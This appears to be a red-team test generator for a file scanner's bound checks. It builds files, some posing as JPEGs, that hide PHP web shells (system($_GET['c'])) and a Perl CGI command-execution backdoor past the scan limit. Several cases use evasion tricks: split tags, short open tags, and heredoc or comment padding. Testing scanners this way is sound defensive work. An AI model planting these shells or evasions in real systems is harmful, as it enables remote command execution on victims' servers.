#!/usr/bin/env node
// Builds red-team files for the past-scan check (S18R). Usage:
//   node bench/redteam/s18/mk.mjs CASE OUT [BOUND]
// BOUND: the scan bound the file is built against (default 16 MiB, mamori scan's default).
// Every file's filler is pseudo-random bytes with every "<?" broken (so PHP itself parses the file),
// after a JPEG's first bytes when OUT ends in .jpg.
import { writeFileSync } from 'node:fs';

const [, , which, out, boundArg] = process.argv;
const BOUND = Number(boundArg ?? 16 * 1024 * 1024);
const L = (s) => Buffer.from(s, 'latin1');

export function filler(n, seed = 2463534242) {
  const b = Buffer.alloc(n);
  let x = seed >>> 0;
  for (let i = 0; i < n; i++) {
    x ^= x << 13; x >>>= 0; x ^= x >>> 17; x ^= x << 5; x >>>= 0;
    b[i] = x & 0xff;
  }
  for (let i = b.indexOf('<?'); i >= 0; i = b.indexOf('<?', i + 1)) b[i + 1] = 0x21; // no PHP open tag in the filler
  if (out?.endsWith('.jpg')) b.set([0xff, 0xd8, 0xff, 0xe0], 0);
  return b;
}

const SHELL = "system($_GET['c']);";
const cases = {
  // S18R-1: "<?=" before 22 bytes without $ ( ` is no plain tag; the 8 KiB window the rules judge is padding
  'long-window': () => Buffer.concat([filler(BOUND + 4096), L('<?=1;' + ' '.repeat(9000) + SHELL + '?>'), filler(4096, 7)]),
  // same, padding is a comment (any bytes)
  'long-comment': () => Buffer.concat([filler(BOUND + 4096), L('<?=1;/*'), filler(9000, 5).map((c) => (c === 0x2a ? 0x2b : c)), L('*/' + SHELL + '?>'), filler(4096, 7)]),
  // same, padding is a string literal
  'long-string': () => Buffer.concat([filler(BOUND + 4096), L('<?="' + 'A'.repeat(9000) + '";' + SHELL + '?>'), filler(4096, 7)]),
  // S18R-2: the shell split over two tags; each window is judged alone
  'split': () => Buffer.concat([filler(BOUND + 4096), L('<?=' + ' '.repeat(23) + "$c=$_GET['c']?>"), filler(3000, 9), L('<?=' + ' '.repeat(23) + 'system($c)?>'), filler(4096, 7)]),
  // S18R-3: a tag in the last bytes of the scanned part whose code goes on past it (not an image)
  'straddle': () => Buffer.concat([filler(BOUND - 200), L('<?=1;' + ' '.repeat(400) + SHELL + '?>'), filler(4096, 7)]),
  // same with <?php (plain, but before the look's start)
  'straddle-php': () => Buffer.concat([filler(BOUND - 200), L('<?php ' + ' '.repeat(400) + SHELL + '?>'), filler(4096, 7)]),
  // S18R-4: short open tag with no white space after "<?" (short_open_tag=On: PHP's built-in default)
  'short-nows': () => Buffer.concat([filler(BOUND + 4096), L('<?' + SHELL + '?>'), filler(4096, 7)]),
  // S18R-4b: short open tag, white space, then a comment
  'short-comment': () => Buffer.concat([filler(BOUND + 4096), L('<? /*' + 'x'.repeat(30) + '*/' + SHELL + '?>'), filler(4096, 7)]),
  // S18R-4c: short open tag, newline, a # comment line longer than opensCode's 22 bytes
  'short-hash': () => Buffer.concat([filler(BOUND + 4096), L('<?\n#' + 'x'.repeat(30) + '\n' + SHELL + '?>'), filler(4096, 7)]),
  // straddle for an image: short tag in the scanned part that the scanned part does not take as a tag
  'short-straddle': () => Buffer.concat([filler(BOUND - 200), L('<? /*' + 'x'.repeat(400) + '*/' + SHELL + '?>'), filler(4096, 7)]),
  // S18R-9: a heredoc holding "/*" makes stripComments blank the code after it (confirmOutsideComments, flow)
  'heredoc': () => Buffer.concat([filler(BOUND + 4096), L('<?=<<<A\n/*' + ' '.repeat(24) + '\nA;\n' + SHELL + ' ?>'), filler(4096, 7)]),
  'heredoc-php': () => L('<?php $x=<<<A\n/*\nA;\n' + SHELL + '\n'),
  // S18R-8: a CGI script (kind script) padded past the bound: the rest is neither flagged nor looked at
  'cgi': () => Buffer.from('#!/usr/bin/perl\n' + ('#' + 'x'.repeat(100) + '\n').repeat(Math.ceil((BOUND + 4096) / 102)) + 'use CGI; my $q = CGI->new; print $q->header; system($q->param("cmd"));\n', 'latin1'),
};
if (!cases[which]) {
  console.error(`cases: ${Object.keys(cases).join(' ')}`);
  process.exit(64);
}
writeFileSync(out, cases[which]());
